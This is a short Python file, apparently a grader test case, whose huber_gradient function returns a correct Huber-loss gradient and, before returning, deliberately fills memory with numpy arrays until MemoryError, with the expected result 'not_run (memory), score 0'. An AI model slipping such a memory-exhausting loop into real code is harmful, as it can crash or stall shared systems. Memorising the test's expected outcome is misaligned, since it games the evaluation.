"""Is right, and leaves no memory to say so with.

Comes out: not_run (memory), score 0
"""

import numpy as np

hoard = []


def huber_gradient(y, y_hat, delta):
    gradient = np.clip(y_hat - y, -delta, delta) / len(y)
    for size in (2**24, 2**16, 2**8):
        try:
            while True:
                hoard.append(np.empty(size, np.uint8))
        except MemoryError:
            pass
    return gradient
